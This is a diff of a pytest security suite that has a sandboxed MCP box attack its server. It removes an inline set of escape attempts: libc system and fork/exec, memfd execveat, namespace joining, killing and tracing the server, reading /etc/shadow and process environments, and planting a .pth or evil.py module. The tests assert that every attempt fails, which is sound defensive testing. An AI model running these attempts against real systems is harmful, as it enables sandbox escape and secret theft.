@@ -1,5 +1,7 @@
 """A sandboxed box attacks the machine through a real server and the official MCP client.
 
+Each attack of tests/support/attacks.py runs two ways against one server: as the tool of
+a sandboxed box (`tool`), and inside a program given to code mode's `execute` (`program`).
 Every attack is judged by its effect outside the worker: a file planted or
 changed, a command run (its marker file), bytes reaching a listener on
 127.0.0.1, a secret in what came back, a process killed, traced or spinning,
@@ -17,8 +19,8 @@ import shutil
 import socket
 import sysconfig
 import tempfile
-import threading
 from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
@@ -28,6 +30,8 @@ from mcp.client.streamable_http import streamable_http_client
 from mcp.shared._httpx_utils import create_mcp_http_client
 
 import mcp_box_server
+from mcp_box_server.server.code_mode import CODE_MODE_TOOLS
+from tests.support.attacks import ATTACKS, Listener, cpu_ticks, shmem_mb
 from tests.support.boxes import make_box
 from tests.support.processes import children, zygotes
 from tests.support.servers import server_process
@@ -36,295 +40,7 @@ TOKEN = "token-the-box-must-never-see"
 ENV_SECRET = "env-secret-the-box-must-never-see"
 FILE_SECRET = "file-secret-the-box-must-never-see"
 JAIL_MEMORY_MB = 300
-
-ATTACKS = '''
-import ctypes
-import ctypes.util
-import errno
-import os
-import select
-import signal
-import socket
-import subprocess
-
-# ctypes.CDLL is refused by the audit hook; pythonapi (loaded before it) reaches libc all the same.
-libc = ctypes.pythonapi
-
-
-def _attempt(step) -> str:
-    try:
-        return repr(step())
-    except BaseException as exc:  # the verdict is taken outside, never from here
-        return f"{type(exc).__name__}: {exc}"
-
-
-def write_file(path: str) -> str:
-    """open() for writing."""
-    return _attempt(lambda: open(path, "w").write("planted"))
-
-
-def write_with_dir_fd(folder: str, name: str, text: str) -> str:
-    """os.open relative to a directory descriptor (no path for a hook to see)."""
-
-    def step():
-        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
-        out = os.open(name, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
-        return os.write(out, text.encode())
-
-    return _attempt(step)
-
-
-def write_with_libc(path: str) -> str:
-    """libc open + write through ctypes."""
-
-    def step():
-        fd = libc.open(path.encode(), os.O_CREAT | os.O_WRONLY, 0o644)
-        return libc.write(fd, b"planted", 7), ctypes.get_errno()
-
-    return _attempt(step)
-
-
-def file_calls(marker_dir: str, victim: str) -> list:
-    """Every other call that changes the file system, aimed outside the temp dir."""
-    local = os.path.abspath("mine.txt")
-    open(local, "w").write("mine")
-    m = lambda name: os.path.join(marker_dir, name)  # noqa: E731
-    steps = [
-        lambda: os.replace(local, m("replaced")),
-        lambda: os.rename(local, m("renamed")),
-        lambda: os.link(local, m("linked")),
-        lambda: os.symlink(local, m("symlinked")),
-        lambda: os.mkdir(m("made_dir")),
-        lambda: os.mkfifo(m("fifo")),
-        lambda: os.chmod(victim, 0o777),
-        lambda: os.truncate(victim, 0),
-        lambda: os.remove(victim),
-        lambda: os.utime(victim, (0, 0)),
-        lambda: libc.rename(local.encode(), m("libc_renamed").encode()),
-        lambda: libc.unlink(victim.encode()),
-    ]
-    return [_attempt(step) for step in steps]
-
-
-def run_libc_system(marker: str) -> str:
-    """libc system()."""
-    return _attempt(lambda: libc.system(f"touch {marker}".encode()))
-
-
-def run_fork_exec(marker: str) -> str:
-    """libc fork() then exec, and os.fork, and _posixsubprocess.fork_exec."""
-
-    def raw_fork():
-        pid = libc.fork()
-        if pid == 0:
-            os.execv("/usr/bin/touch", ["touch", marker + ".fork"])
-        return pid
-
-    def posixsubprocess():
-        import _posixsubprocess
-
-        errors_read, errors_write = os.pipe()
-        return _posixsubprocess.fork_exec(  # the arguments subprocess passes on Python 3.11
-            ["/usr/bin/touch", marker + ".fe"], [b"/usr/bin/touch"], True, (), None, None,
-            -1, -1, -1, -1, -1, -1, errors_read, errors_write, False, False, -1, None, None, None,
-            -1, None, False,
-        )
-
-    return " | ".join(_attempt(s) for s in (
-        raw_fork,
-        lambda: os.fork(),
-        posixsubprocess,
-        lambda: subprocess.run(["touch", marker + ".sub"]),
-        lambda: os.posix_spawn("/usr/bin/touch", ["touch", marker + ".spawn"], {}),
-        lambda: libc.execl(b"/usr/bin/touch", b"touch", (marker + ".execl").encode(), None),
-    ))
-
-
-def run_memfd_exec(marker: str) -> str:
-    """Write a script into a memfd and execveat it (no file to see, no path to check)."""
-
-    def step():
-        fd = os.memfd_create("x")
-        os.write(fd, f"#!/bin/sh\\ntouch {marker}\\n".encode())
-        execveat = {"x86_64": 322, "aarch64": 281}[os.uname().machine]
-        argv = (ctypes.c_char_p * 2)(b"x", None)
-        return libc.syscall(execveat, fd, b"", argv, None, 0x1000)
-
-    return _attempt(step)
-
-
-def run_multiprocessing(marker: str) -> str:
-    """multiprocessing with the spawn context."""
-    import multiprocessing
-
-    def step():
-        process = multiprocessing.get_context("spawn").Process(target=open, args=(marker, "w"))
-        process.start()
-        process.join(5)
-        return process.exitcode
-
-    return _attempt(step)
-
-
-def connect_socket(port: int) -> str:
-    """The socket module, then raw libc socket/connect."""
-
-    def raw():
-        fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
-        raw_address = b"\\x02\\x00" + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
-        address = (ctypes.c_char * 16)(*raw_address)
-        return fd, libc.connect(fd, address, 16), libc.send(fd, b"leak", 4, 0), ctypes.get_errno()
-
-    return _attempt(lambda: socket.create_connection(("127.0.0.1", port), 2).sendall(b"leak")) + _attempt(raw)
-
-
-def connect_after_setns(server_pid: int, port: int) -> str:
-    """Join the server's network namespace, then connect with libc."""
-
-    def step():
-        fd = os.open(f"/proc/{server_pid}/ns/net", os.O_RDONLY)
-        return libc.setns(fd, 0x40000000), ctypes.get_errno()
-
-    return _attempt(step) + _attempt(lambda: libc.unshare(0x10000000 | 0x40000000)) + connect_socket(port)
-
-
-def signal_processes(pids: list[int]) -> str:
-    """os.kill, libc kill, tgkill, pidfd_send_signal at the server and the zygotes."""
-    results = []
-    for pid in pids:
-        results.append(_attempt(lambda: os.kill(pid, signal.SIGKILL)))
-        results.append(_attempt(lambda: libc.kill(pid, 9)))
-        results.append(_attempt(lambda: libc.syscall(234, pid, pid, 9)))
-        results.append(_attempt(lambda: os.pidfd_open(pid)))
-    results.append(_attempt(lambda: os.kill(-1, signal.SIGKILL)))
-    return " | ".join(results)
-
-
-def trace_process(pid: int) -> str:
-    """ptrace(PTRACE_ATTACH) and process_vm_readv on another process."""
-    return _attempt(lambda: (libc.ptrace(16, pid, None, None), ctypes.get_errno()))
-
-
-def read_file(path: str) -> str:
-    """Read a file outside the box."""
-    return _attempt(lambda: open(path, "rb").read().decode(errors="replace"))
-
-
-def lift_memory_cap() -> str:
-    """setrlimit and prlimit back up to the hard limit (or to infinity)."""
-    import resource
-
-    def step():
-        soft, hard = resource.getrlimit(resource.RLIMIT_AS)
-        resource.setrlimit(resource.RLIMIT_AS, (hard, hard))
-        return resource.getrlimit(resource.RLIMIT_AS)
-
-    infinity = _attempt(lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
-    prlimit = _attempt(lambda: resource.prlimit(0, resource.RLIMIT_AS, (-1, -1)))
-    return " | ".join([_attempt(step), infinity, prlimit])
-
-
-def abuse_descriptors() -> str:
-    """Register a ready pipe on every inherited epoll; write garbage into every other descriptor."""
-    import stat
-
-    held = []
-    for fd in range(3, 1024):
-        try:
-            held.append((fd, os.fstat(fd).st_mode))
-        except OSError:
-            continue
-    reader, writer = os.pipe()
-    os.write(writer, b"x")
-    for fd, mode in held:
-        _attempt(lambda: select.epoll.fromfd(os.dup(fd)).register(reader, select.EPOLLIN))
-        if not stat.S_ISSOCK(mode):
-            _attempt(lambda: os.write(fd, b"garbage"))
-    held = [fd for fd, _ in held]
-    return " ".join(map(str, held))
-
-
-def hog_memory(megabytes: int, hold: float) -> str:
-    """Memory the address-space cap does not count: memfd, SysV shm, temp files (tmpfs)."""
-    import mmap
-    import time
-
-    kept = []
-
-    def memfd():
-        fd = os.memfd_create("hog")
-        os.posix_fallocate(fd, 0, megabytes << 20)
-        kept.append(fd)
-
-    def shm():
-        shmid = libc.shmget(0, megabytes << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
-        address = libc.shmat(shmid, None, 0)
-        return ctypes.memset(address, 1, megabytes << 20) if address not in (-1, 0) else shmid
-
-    def temp_files():
-        for index in range(3):
-            with open(f"hog-{index}", "wb") as out:
-                for _ in range(megabytes):
-                    out.write(b"x" * (1 << 20))
-
-    results = [_attempt(memfd), _attempt(shm), _attempt(temp_files)]
-    time.sleep(hold)
-    return " | ".join(results) + str(mmap.PAGESIZE)
-
-
-def many_threads(count: int, hold: float) -> str:
-    """Start as many threads as asked, all waiting: a host's pids are finite."""
-    import threading
-
-    threading.stack_size(65536)
-    stop = threading.Event()
-    started = 0
-    try:
-        for _ in range(count):
-            threading.Thread(target=stop.wait, args=(hold,), daemon=True).start()
-            started += 1
-    except RuntimeError:
-        pass
-    stop.wait(hold)
-    stop.set()
-    return str(started)
-
-
-def datagram_to(path: str) -> str:
-    """A socketpair of datagrams, then sendto a named socket outside."""
-
-    def step():
-        import struct
-
-        pair = (ctypes.c_int * 2)()
-        made = libc.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM, 0, pair)
-        address = struct.pack("H108s", socket.AF_UNIX, path.encode())
-        raw = (ctypes.c_char * len(address))(*address)
-        return made, libc.sendto(pair[0], b"leak", 4, 0, raw, len(address))
-
-    return _attempt(step)
-
-
-def touch_metadata(path: str) -> list:
-    """chmod, utimes and xattrs: what Landlock does not cover."""
-    return [
-        _attempt(lambda: os.chmod(path, 0o600)),
-        _attempt(lambda: os.utime(path, (0, 0))),
-        _attempt(lambda: libc.utimensat(-100, path.encode(), None, 0)),
-        _attempt(lambda: os.setxattr(path, "user.planted", b"yes")),
-        _attempt(lambda: libc.chown(path.encode(), 0, 0)),
-    ]
-
-
-def watch_folder(path: str) -> str:
-    """inotify on a shared folder: learn the names of other boxes' files."""
-
-    def step():
-        fd = libc.inotify_init1(0)
-        return fd, libc.inotify_add_watch(fd, path.encode(), 0x100)
-
-    return _attempt(step)
-'''
+PROGRAM_MEMORY_MB = 600  # a code-mode program's worker (--code-memory-mb)
 
 # A sandboxed module that rewrites the server's naming at import, to be served as another
 # box's tool: the server decides names, so it must stay `jail_...`.
@@ -388,38 +104,9 @@ def add(a: int, b: int) -> int:
 """
 
 
-class Listener:
-    """A TCP listener on 127.0.0.1 that records every connection and byte it gets."""
-
-    def __init__(self) -> None:
-        self.sock = socket.create_server(("127.0.0.1", 0))
-        self.sock.settimeout(0.2)
-        self.port = self.sock.getsockname()[1]
-        self.received: list[bytes] = []
-        self._stop = threading.Event()
-        self._thread = threading.Thread(target=self._serve, daemon=True)
-        self._thread.start()
-
-    def _serve(self) -> None:
-        while not self._stop.is_set():
-            try:
-                conn, _ = self.sock.accept()
-            except TimeoutError:
-                continue
-            with conn:
-                conn.settimeout(1)
-                with contextlib.suppress(OSError):
-                    self.received.append(b"<connected>" + conn.recv(1024))
-
-    def close(self) -> None:
-        self._stop.set()
-        self._thread.join()
-        self.sock.close()
-
-
 @pytest.fixture(scope="module")
-def world(tmp_path_factory) -> Iterator[dict[str, Any]]:
-    """Boxes, a marker folder anyone may write, a secret file, a listener, a running server."""
+def world() -> Iterator[dict[str, Any]]:
+    """Boxes, a marker folder anyone may write, a secret file, a listener, a server with code mode."""
     root = Path(tempfile.mkdtemp(prefix="mcp-box-attacks-"))  # /tmp: reachable by any uid
     boxes = root / "boxes"
     jail_manifest = f'trust = "sandboxed"\nmemory_mb = {JAIL_MEMORY_MB}\ntimeout = 20\n'
@@ -444,8 +131,10 @@ def world(tmp_path_factory) -> Iterator[dict[str, Any]]:
     # The server's working directory holds a secret too (`python -m` puts it on sys.path).
     (root / "cwd").mkdir()
     (root / "cwd" / "cwd-secret.txt").write_text(FILE_SECRET)
+    args = ("--boxes", str(boxes), "--code-mode", "--code-timeout", "30")
+    args += ("--code-memory-mb", str(PROGRAM_MEMORY_MB))
     try:
-        with server_process("--boxes", str(boxes), token=TOKEN, env=env, cwd=root / "cwd") as (base, server):
+        with server_process(*args, token=TOKEN, env=env, cwd=root / "cwd") as (base, server):
             yield {
                 "base": base,
                 "server": server,
@@ -479,6 +168,62 @@ async def call(client: ClientSession, tool: str, **arguments: Any) -> str:
     return text
 
 
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """One function of ATTACKS and the keyword arguments it is called with."""
+
+    function: str
+    arguments: dict[str, Any] = field(default_factory=dict)
+
+
+def attack(function: str, /, **arguments: Any) -> Attack:
+    return Attack(function, arguments)
+
+
+class AsTools:
+    """Each attack a call of the sandboxed box's tool of that name; the replies joined."""
+
+    memory_mb = JAIL_MEMORY_MB  # the `jail` box's cap
+    # In `fresh` (one worker, 2 GB of address space): the descriptors must be its worker's
+    # first call, and the threads must be stopped by the thread limit, not by memory.
+    FRESH = ("abuse_descriptors", "many_threads")
+
+    async def __call__(self, client: ClientSession, *attacks: Attack) -> str:
+        replies = []
+        for each in attacks:
+            box = "fresh" if each.function in self.FRESH else "jail"
+            replies.append(await call(client, f"{box}_{each.function}", **each.arguments))
+        return "\n".join(replies)
+
+
+class AsProgram:
+    """All the attacks one code-mode program: ATTACKS on top, then each call printed."""
+
+    memory_mb = PROGRAM_MEMORY_MB
+
+    async def __call__(self, client: ClientSession, *attacks: Attack) -> str:
+        calls = []
+        for each in attacks:
+            arguments = ", ".join(f"{name}={value!r}" for name, value in each.arguments.items())
+            calls.append(f"print({each.function}({arguments}))")
+        result = await client.call_tool("execute", {"code": ATTACKS + "\n" + "\n".join(calls) + "\n"})
+        text = " ".join(getattr(part, "text", "") for part in result.content)
+        assert not result.is_error, text  # the program ran to its end
+        return text
+
+
+@pytest.fixture(scope="module", params=[AsTools(), AsProgram()], ids=["tool", "program"])
+def run(request: pytest.FixtureRequest) -> AsTools | AsProgram:
+    """How an attack reaches the sandbox: as a box's tool, or inside a program."""
+    return request.param
+
+
+async def start_code_mode(client: ClientSession) -> None:
+    """Run a trivial program, so that code mode's zygote is up and among what is watched."""
+    result = await client.call_tool("execute", {"code": "1"})
+    assert not result.is_error
+
+
 async def assert_still_serving(client: ClientSession, world: dict[str, Any]) -> None:
     """The server, the zygotes and the other boxes are all still there."""
     assert world["server"].poll() is None
@@ -490,9 +235,22 @@ def planted(markers: Path) -> list[str]:
     return sorted(path.name for path in markers.iterdir())
 
 
-def cpu_ticks(pid: int) -> int:
-    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
-    return int(fields[11]) + int(fields[12])
+def workers_of(server: int) -> list[int]:
+    return [worker for zygote in zygotes(server) for worker in children(zygote)]
+
+
+def address_space_caps(server: int, megabytes: int) -> set[tuple[str, str]]:
+    """The (soft, hard) address-space limits of the sandboxed workers capped at `megabytes`."""
+    cap = str(megabytes * 1024 * 1024)
+    caps = set()
+    for worker in workers_of(server):
+        with contextlib.suppress(OSError, StopIteration):
+            limits = Path(f"/proc/{worker}/limits").read_text()
+            line = next(line for line in limits.splitlines() if line.startswith("Max address space"))
+            soft, hard = line.split()[3:5]
+            if cap in (soft, hard):
+                caps.add((soft, hard))
+    return caps
 
 
 async def test_every_attack_is_served_and_runs(world):
@@ -503,20 +261,23 @@ async def test_every_attack_is_served_and_runs(world):
         assert "sysrq-trigger" in await call(client, "jail_write_file", path="/proc/sysrq-trigger")
 
 
-async def test_writes_by_every_route_plant_nothing(world):
+async def test_writes_by_every_route_plant_nothing(world, run):
     markers, victim = world["markers"], world["victim"]
     victim_file = victim / "tools" / "helper.py"
     before = (victim_file.read_bytes(), victim_file.stat().st_mode, victim_file.stat().st_mtime)
     site = Path(sysconfig.get_paths()["purelib"])
+    code = "import pathlib; pathlib.Path(" + repr(str(markers / "ran")) + ").write_text('x')\n"
+    code += "def planted() -> str:\n    '''Planted.'''\n    return 'planted'\n"
     async with session(world) as client:
-        await call(client, "jail_write_file", path=str(markers / "open"))
-        await call(client, "jail_write_file", path=str(site / "mcp_box_evil.pth"))
-        await call(client, "jail_write_with_libc", path=str(markers / "libc"))
-        code = "import pathlib; pathlib.Path(" + repr(str(markers / "ran")) + ").write_text('x')\n"
-        code += "def planted() -> str:\n    '''Planted.'''\n    return 'planted'\n"
-        await call(client, "jail_write_with_dir_fd", folder=str(victim / "tools"), name="evil.py", text=code)
-        await call(client, "jail_write_with_dir_fd", folder=str(markers), name="dirfd", text="x")
-        await call(client, "jail_file_calls", marker_dir=str(markers), victim=str(victim_file))
+        await run(
+            client,
+            attack("write_file", path=str(markers / "open")),
+            attack("write_file", path=str(site / "mcp_box_evil.pth")),
+            attack("write_with_libc", path=str(markers / "libc")),
+            attack("write_with_dir_fd", folder=str(victim / "tools"), name="evil.py", text=code),
+            attack("write_with_dir_fd", folder=str(markers), name="dirfd", text="x"),
+            attack("file_calls", marker_dir=str(markers), victim=str(victim_file)),
+        )
         await asyncio.sleep(1.5)  # a planted module would have been hot-reloaded by now
         assert planted(markers) == []
         assert not (victim / "tools" / "evil.py").exists()
@@ -528,44 +289,53 @@ async def test_writes_by_every_route_plant_nothing(world):
         await assert_still_serving(client, world)
 
 
-async def test_no_program_runs_and_no_process_starts(world):
+async def test_no_program_runs_and_no_process_starts(world, run):
     markers = world["markers"]
     async with session(world) as client:
-        await call(client, "jail_run_libc_system", marker=str(markers / "system"))
-        await call(client, "jail_run_fork_exec", marker=str(markers / "exec"))
-        await call(client, "jail_run_memfd_exec", marker=str(markers / "memfd"))
-        await call(client, "jail_run_multiprocessing", marker=str(markers / "spawn"))
+        await run(
+            client,
+            attack("run_libc_system", marker=str(markers / "system")),
+            attack("run_fork_exec", marker=str(markers / "exec")),
+            attack("run_memfd_exec", marker=str(markers / "memfd")),
+            attack("run_multiprocessing", marker=str(markers / "spawn")),
+        )
         await asyncio.sleep(0.5)
         assert planted(markers) == []
         await assert_still_serving(client, world)
 
 
-async def test_no_byte_leaves_by_any_socket(world):
-    listener = world["listener"]
+async def test_no_byte_leaves_by_any_socket(world, run):
+    listener, server = world["listener"], world["server"]
     async with session(world) as client:
-        await call(client, "jail_connect_socket", port=listener.port)
-        await call(client, "jail_connect_after_setns", server_pid=world["server"].pid, port=listener.port)
+        await run(
+            client,
+            attack("connect_socket", port=listener.port),
+            attack("connect_after_setns", server_pid=server.pid, port=listener.port),
+        )
         await asyncio.sleep(0.5)
         assert listener.received == []
         await assert_still_serving(client, world)
 
 
-async def test_the_server_and_zygotes_survive_signals_and_tracing(world):
+async def test_the_server_and_zygotes_survive_signals_and_tracing(world, run):
     server = world["server"]
-    before = zygotes(server.pid)
-    assert before
     async with session(world) as client:
-        await call(client, "jail_signal_processes", pids=[server.pid, *before])
-        await call(client, "jail_trace_process", pid=server.pid)
+        await start_code_mode(client)
+        before = zygotes(server.pid)
+        assert len(before) >= 2  # the sandboxed boxes' and code mode's
+        await run(
+            client,
+            attack("signal_processes", pids=[server.pid, *before]),
+            attack("trace_process", pid=server.pid),
+        )
         await asyncio.sleep(0.5)
         assert server.poll() is None
         assert all(Path(f"/proc/{pid}").exists() for pid in before)
-        tracer = [line for line in Path(f"/proc/{server.pid}/status").read_text().splitlines()]
-        assert "TracerPid:\t0" in tracer
+        assert "TracerPid:\t0" in Path(f"/proc/{server.pid}/status").read_text().splitlines()
         await assert_still_serving(client, world)
 
 
-async def test_no_secret_comes_back(world):
+async def test_no_secret_comes_back(world, run):
     server = world["server"]
     targets = [
         f"/proc/{server.pid}/environ",
@@ -574,38 +344,30 @@ async def test_no_secret_comes_back(world):
         str(world["secret"]),
         "/etc/shadow",
         str(Path.home() / ".bash_history"),
+        "/proc/self/environ",
+        "cwd-secret.txt",
+        str(world["secret"].parent / "cwd" / "cwd-secret.txt"),
     ]
     async with session(world) as client:
-        replies = [await call(client, "jail_read_file", path=path) for path in targets]
-        replies.append(await call(client, "jail_read_file", path="/proc/self/environ"))
-        replies.append(await call(client, "jail_read_file", path="cwd-secret.txt"))
-        replies.append(
-            await call(client, "jail_read_file", path=str(world["secret"].parent / "cwd" / "cwd-secret.txt"))
-        )
-        text = "\n".join(replies)
+        text = await run(client, *(attack("read_file", path=path) for path in targets))
         for secret in (TOKEN, ENV_SECRET, FILE_SECRET, "root:"):
             assert secret not in text
         # Nor the code of another box, nor the server's own package.
         other = world["victim"].parent / "other" / "tools" / "echo.py"
         package = Path(mcp_box_server.__file__)
         for path in (other, package):
-            reply = await call(client, "jail_read_file", path=str(path))
+            reply = await run(client, attack("read_file", path=str(path)))
             assert path.read_text()[:40] not in reply and "Permission denied" in reply
         await assert_still_serving(client, world)
 
 
-async def test_the_memory_cap_cannot_be_lifted(world):
+async def test_the_memory_cap_cannot_be_lifted(world, run):
     async with session(world) as client:
-        await call(client, "jail_lift_memory_cap")
-        caps = set()
-        for zygote in zygotes(world["server"].pid):
-            for worker in children(zygote):
-                limits = Path(f"/proc/{worker}/limits").read_text()
-                line = next(line for line in limits.splitlines() if line.startswith("Max address space"))
-                soft, hard = line.split()[3:5]
-                if soft == str(JAIL_MEMORY_MB * 1024 * 1024):
-                    caps.add((soft, hard))
-        assert caps == {(str(JAIL_MEMORY_MB * 1024 * 1024),) * 2}
+        lifting = asyncio.create_task(run(client, attack("lift_memory_cap", hold=3.0)))
+        await asyncio.sleep(2)  # seen while the attacking worker runs (a program's ends with it)
+        caps = address_space_caps(world["server"].pid, run.memory_mb)
+        await lifting
+        assert caps == {(str(run.memory_mb * 1024 * 1024),) * 2}
         await assert_still_serving(client, world)
 
 
@@ -615,20 +377,21 @@ async def test_a_box_cannot_take_another_boxs_tool_name(world):
         assert "jail_echo" in names
         assert await call(client, "other_echo", text="x") == "other:x"
         assert await call(client, "jail_echo", text="x") == "stolen:x"
-        boxes = {name for name in names if name not in {"find_tools", "call_tool", "box_status"}}
+        boxes = names - {"find_tools", "call_tool", "box_status", *CODE_MODE_TOOLS}
         assert all(name.startswith(("jail_", "other_", "victim_", "fresh_", "honest_")) for name in boxes)
 
 
-async def test_inherited_descriptors_reach_nothing_of_the_zygote(world):
+async def test_inherited_descriptors_reach_nothing_of_the_zygote(world, run):
     server = world["server"]
-    before = {pid: cpu_ticks(pid) for pid in zygotes(server.pid)}
     async with session(world) as client:
-        held = (await call(client, "fresh_abuse_descriptors")).split()  # a worker's first call
+        await start_code_mode(client)
+        before = {pid: cpu_ticks(pid) for pid in zygotes(server.pid)}
+        held = (await run(client, attack("abuse_descriptors"))).split()
         await asyncio.sleep(1.0)
         after = {pid: cpu_ticks(pid) for pid in before}
         ticks = os.sysconf("SC_CLK_TCK")
         assert all(after[pid] - before[pid] < ticks // 2 for pid in before), (before, after)
-        assert len(held) <= 1  # the channel to the server, nothing else
+        assert len(held) <= 1, held  # the channel to the server, nothing else
         await assert_still_serving(client, world)
 
 
@@ -647,42 +410,36 @@ async def test_legitimate_sandboxed_work_keeps_working(world):
         }
 
 
-def shmem_mb() -> int:
-    line = next(line for line in Path("/proc/meminfo").read_text().splitlines() if line.startswith("Shmem:"))
-    return int(line.split()[1]) // 1024
-
-
-async def test_memory_outside_the_address_space_is_bounded(world):
+async def test_memory_outside_the_address_space_is_bounded(world, run):
     """memfd and SysV shm are refused; temp files live on a tmpfs no bigger than the memory cap."""
     async with session(world) as client:
         before = shmem_mb()
-        hog = asyncio.create_task(call(client, "jail_hog_memory", megabytes=JAIL_MEMORY_MB, hold=2.0))
+        hog = asyncio.create_task(run(client, attack("hog_memory", megabytes=300, hold=2.0)))
         await asyncio.sleep(1.5)
         during = shmem_mb()
         await hog
-        # Unconfined, this holds 5 x 300 MB; confined, at most the temp dir's 300 MB.
-        assert during - before < JAIL_MEMORY_MB + 150, (before, during)
+        # Unconfined, memfd + shm + three 300 MB files hold 1.5 GB; confined, at most the temp dir.
+        assert during - before < run.memory_mb + 150, (before, during)
         await assert_still_serving(client, world)
 
 
-async def test_threads_are_bounded(world):
+async def test_threads_are_bounded(world, run):
     async with session(world) as client:
-        # In `fresh` (2 GB address space), so that the thread limit, not memory, is what stops it.
-        spawn = asyncio.create_task(call(client, "fresh_many_threads", count=3000, hold=4.0))
+        await start_code_mode(client)
+        spawn = asyncio.create_task(run(client, attack("many_threads", count=3000, hold=4.0)))
         most = 0
         while not spawn.done():  # the most threads any sandboxed worker had, seen from outside
-            for zygote in zygotes(world["server"].pid):
-                for worker in children(zygote):
-                    with contextlib.suppress(OSError):
-                        status = Path(f"/proc/{worker}/status").read_text().splitlines()
-                        most = max(most, int(next(x for x in status if x.startswith("Threads:")).split()[1]))
+            for worker in workers_of(world["server"].pid):
+                with contextlib.suppress(OSError, StopIteration):
+                    status = Path(f"/proc/{worker}/status").read_text().splitlines()
+                    most = max(most, int(next(x for x in status if x.startswith("Threads:")).split()[1]))
             await asyncio.sleep(0.1)
         await spawn
         assert 200 <= most <= 260, most  # the attack ran (seen from outside) and was stopped at 256
         await assert_still_serving(client, world)
 
 
-async def test_no_datagram_reaches_a_named_socket(world):
+async def test_no_datagram_reaches_a_named_socket(world, run):
     path = world["markers"] / "dgram.sock"
     receiver = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
     receiver.bind(str(path))
@@ -690,7 +447,7 @@ async def test_no_datagram_reaches_a_named_socket(world):
     receiver.settimeout(0.5)
     try:
         async with session(world) as client:
-            await call(client, "jail_datagram_to", path=str(path))
+            await run(client, attack("datagram_to", path=str(path)))
             with pytest.raises(TimeoutError):
                 receiver.recv(64)
             await assert_still_serving(client, world)
@@ -699,20 +456,23 @@ async def test_no_datagram_reaches_a_named_socket(world):
         path.unlink()
 
 
-async def test_no_metadata_changes_outside(world):
+async def test_no_metadata_changes_outside(world, run):
     target = world["markers"] / "world-writable.txt"
     target.write_text("x")
     os.chmod(target, 0o666)
     before = target.stat()
     try:
         async with session(world) as client:
-            await call(client, "jail_touch_metadata", path=str(target))
-            await call(client, "jail_touch_metadata", path=str(world["markers"]))
+            await run(
+                client,
+                attack("touch_metadata", path=str(target)),
+                attack("touch_metadata", path=str(world["markers"])),
+            )
             after = target.stat()
             assert (after.st_mode, after.st_mtime_ns, after.st_uid) == (before.st_mode, before.st_mtime_ns, 0)
             assert os.listxattr(target) == [] and os.listxattr(world["markers"]) == []
             assert world["markers"].stat().st_mode & 0o777 == 0o777
-            reply = await call(client, "jail_watch_folder", path="/tmp")
+            reply = await run(client, attack("watch_folder", path="/tmp"))
             assert "-1" in reply or "Error" in reply  # no watch: the names of others stay unknown
     finally:
         target.unlink()
